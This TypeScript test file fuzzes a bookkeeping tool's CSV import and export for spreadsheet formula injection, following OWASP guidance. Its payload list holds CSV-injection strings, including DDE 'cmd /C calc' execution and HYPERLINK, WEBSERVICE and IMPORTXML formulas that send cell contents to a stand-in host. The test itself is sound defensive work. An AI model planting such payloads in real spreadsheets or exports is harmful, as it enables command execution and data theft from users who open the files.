import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { addOwner, inFolder, useStore } from '../../test/service/owners.ts';
import type { Check } from '../run/check.ts';
import { cofferPrints, whose } from '../../test/service/coffer.ts';

const seed = 25;
const longestName = 40;
const longestExternalId = 60;

export const check: Check = {
  id: 'F25',
  rounds: { short: 300, full: 2_000 },
  run: (rows) =>
    inFolder(async (folder) => {
      const [first, second] = ['first', 'second'].map((name) => join(folder, `${name}.db`));
      const texts = hostileTexts(rows * 5, seed);
      const statement = join(folder, 'statement.csv');
      await writeFile(statement, statementOf(texts));
      // Each row has another account: the reader takes no such column for one unless it is named.
      const exported = await throughBook(first!, statement, '--map', 'account=Account');
      const file = join(folder, 'exported.csv');
      await writeFile(file, exported);
      const again = await throughBook(second!, file);
      const cells = rowsOf(exported);
      const formulas = cells.flat().filter(mayBeFormula);
      const problems = formulas.map((cell) => `may be a formula: ${JSON.stringify(cell)}`);
      if (cells.length !== rows) problems.push(`${cells.length} of ${rows} rows were exported`);
      problems.push(...missingNotes(texts, cells), ...otherRows(cells, rowsOf(again)));
      const guarded = cells.flat().filter((cell) => cell.startsWith("'")).length;
      const figure = `${texts.length} hostile texts (seed ${seed}), ${guarded} guarded, ${formulas.length} formulas`;
      return { figure, problems };
    }),
};

/** Returns a statement with five texts in each row: payee, notes, category, account, external id. */
function statementOf(texts: readonly string[]): string {
  const rows: string[] = [];
  for (let at = 0; at < texts.length; at += 5) {
    const [payee = '', notes = '', category = '', account = '', externalId = ''] = texts.slice(at);
    const names = [category, account].map((name) => name.slice(0, longestName).toWellFormed());
    const id = `${externalId.slice(0, longestExternalId).toWellFormed()} ${at}`;
    rows.push(['2024-02-29', '-1.00', payee, notes, ...names, id].map(quoted).join(','));
  }
  return `Date,Amount,Payee,Notes,Category,Account,External ID\n${rows.join('\n')}\n`;
}

function quoted(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}

async function throughBook(
  database: string,
  file: string,
  ...flags: readonly string[]
): Promise<string> {
  const owner = await useStore(database, (store) => addOwner(store, 'owner'));
  await cofferPrints('import', file, '--decimal', 'point', ...flags, ...whose(owner, database));
  return cofferPrints('export', ...whose(owner, database));
}

/** Returns the notes that are wrong in the export: a guarded text has an apostrophe, and the book stores none. */
function missingNotes(texts: readonly string[], cells: readonly (readonly string[])[]): string[] {
  return cells.flatMap((row, n) => {
    const sent = texts[n * 5 + 1] ?? '';
    const found = row[5] ?? '';
    // A guarded text in the statement is imported without its guard.
    const isGuarded = sent.startsWith("'") && mayBeFormula(sent.slice(1));
    const kept = isGuarded ? sent.slice(1) : sent.trim();
    const shown = mayBeFormula(kept) ? `'${kept}` : kept;
    // A statement may write dashes for no text.
    if (/^[-\u2013\u2014/]*$/.test(kept.trim()))
      return found === '' ? [] : [`a blank became ${JSON.stringify(found)}`];
    const isSame = found === shown || (shown.startsWith("'") && found === ` ${shown}`);
    return isSame ? [] : [`${JSON.stringify(sent)} became ${JSON.stringify(found)}`];
  });
}

function otherRows(first: readonly (readonly string[])[], second: readonly (readonly string[])[]) {
  return first.flatMap((row, n) => {
    const [before, after] = [row, second[n] ?? []].map((cells) => JSON.stringify(cells.slice(1)));
    return before === after ? [] : [`${before} became ${after}`];
  });
}

function rowsOf(exported: string): string[][] {
  const [header = [], ...rows] = cellsOf(exported);
  const column = header.indexOf('external_id');
  const numberOf = (row: readonly string[]): number => Number(row[column]?.split(' ').at(-1));
  return rows.toSorted((one, other) => numberOf(one) - numberOf(other));
}

/** Returns the cells of a CSV file, parsed by RFC 4180 without code of the product. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\n|$)/gy;
  for (const [whole, inQuotes, bare, end] of csv.matchAll(pattern)) {
    if (whole === '') break;
    row.push(inQuotes?.replaceAll('""', '"') ?? bare ?? '');
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/**
 * Characters with which a formula or a command starts in some spreadsheet: the six of OWASP, their full-width forms,
 * and others. Source: OWASP, CSV Injection.
 */
const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '\n', '|', '%'];
/** Texts that a program may skip before the first character. */
const leading = [
  '',
  '',
  '',
  ' ',
  '  ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200e',
  '\u2060',
  '\u00ad',
  "'",
  "''",
  '"',
  '""',
  ' "',
  "' ",
  '\u2028',
  '\v',
  '\f',
  '\u202e',
  '\u180e',
  '\u034f',
];
const payloads = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example?"&A1,"y")',
  'WEBSERVICE("http://x.example")',
  'DDE("cmd";"/C calc";"x")',
  '2+5+cmd|x!A',
  'x',
  '',
  'IMPORTXML(CONCAT("http://x.example?",A1),"//a")',
  '1";=1+1;"',
  '1\n=1+1',
  '1\r=1+1',
  '1,=1+1',
  '1\t=1+1',
  '1;=1+1',
  '-=1',
  '"=1',
  '\'=1"',
];

const text = fc
  .tuple(
    fc.constantFrom(...leading),
    fc.constantFrom('', ...triggers, ...triggers),
    fc.constantFrom(...leading),
    fc.oneof(
      fc.constantFrom(...payloads),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: fc.constantFrom(...leading, ...triggers, 'a'), maxLength: 6 }),
    ),
  )
  .map((parts) => parts.join('').replaceAll('\0', ''));

function hostileTexts(count: number, seed: number): string[] {
  return fc.sample(text, { numRuns: count, seed });
}

/**
 * Returns whether a spreadsheet may read a cell as a formula: by its first character, and by the first visible one,
 * because programs differ in what they skip. An amount is a number, not a formula.
 */
function mayBeFormula(cell: string): boolean {
  if (/^-?\d+\.\d{4}$/.test(cell)) return false;
  const visible = Array.from(cell).filter((sign) => !/[\s\p{Cf}]/u.test(sign));
  return '=+-@＝＋－＠'.includes(visible[0] ?? '?') || '\t\r\n'.includes(cell[0] ?? '?');
}
